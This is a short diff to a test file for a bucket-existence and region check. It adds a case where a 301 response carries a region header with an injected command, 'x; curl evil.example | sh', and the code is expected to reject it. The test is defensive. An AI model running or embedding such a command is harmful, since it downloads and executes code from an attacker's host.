@@ -26,6 +26,11 @@ describe("whether a bucket is there", () => {
       [{ status: 403 }, xml("<LocationConstraint>EU</LocationConstraint>")],
       { state: "forbidden", region: "eu-west-1" },
     ],
+    [
+      "elsewhere, at a place that is no region",
+      [{ status: 301, headers: { "x-amz-bucket-region": "x; curl evil.example | sh" } }],
+      { state: "elsewhere", region: undefined },
+    ],
     ["elsewhere", [{ status: 301, headers: west }], { state: "elsewhere", region: "us-west-2" }],
     [
       "elsewhere by a 400",
